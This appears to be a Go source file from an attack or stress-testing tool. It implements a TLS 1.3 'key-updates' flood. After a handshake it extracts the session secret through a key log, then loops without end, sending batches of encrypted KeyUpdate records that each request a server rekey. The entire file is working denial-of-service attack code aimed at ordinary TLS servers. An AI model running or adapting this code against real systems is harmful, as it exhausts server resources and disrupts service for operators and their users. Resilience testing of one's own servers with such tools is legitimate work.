package attack

import (
	"context"
	"crypto/tls"
	"fmt"

	"weir/engine/tlsconn/record"
)

// recordKinds are those who are in and talk to the record layer only.
func recordKinds() []Kind {
	return []Kind{{Name: "key-updates", What: "have the server make new keys, as fast as can be", Attackers: 16, live: keyUpdates}}
}

// updatesAtOnce is how many KeyUpdates go into one write.
const updatesAtOnce = 16

// keyUpdates takes the records over from crypto/tls, which sends no KeyUpdate
// of itself. Each asks for one in return (RFC 8446 §4.6.3).
func keyUpdates(ctx context.Context, a *attacker) error {
	l, err := a.dial(ctx)
	if err != nil {
		return err
	}
	defer l.close()
	var log keyLog
	cfg := a.tls.Clone()
	cfg.KeyLogWriter = &log
	conn := tls.Client(l.raw, cfg)
	if err := conn.HandshakeContext(ctx); err != nil {
		return fmt.Errorf("attack: handshake: %w", err)
	}
	secret, err := log.secret()
	if err != nil {
		return err
	}
	key, err := record.NewKey(conn.ConnectionState().CipherSuite, secret, 0)
	if err != nil {
		return err
	}
	var scratch record.Scratch
	seal := func(typ record.Type, content []byte) {
		start := len(l.out)
		l.out = append(append(l.out, make([]byte, record.HeaderLen)...), content...)
		l.out = key.Seal(&scratch, key.AEAD(), l.out, start, typ)
	}
	seal(record.ApplicationData, a.head())
	if _, err := l.raw.Write(l.out); err != nil {
		return err
	}
	for ctx.Err() == nil && err == nil {
		l.out = l.out[:0]
		for range updatesAtOnce {
			seal(record.Handshake, []byte{24, 0, 0, 1, 1})
			key.Update()
		}
		_, err = l.raw.Write(l.out)
	}
	return nil
}
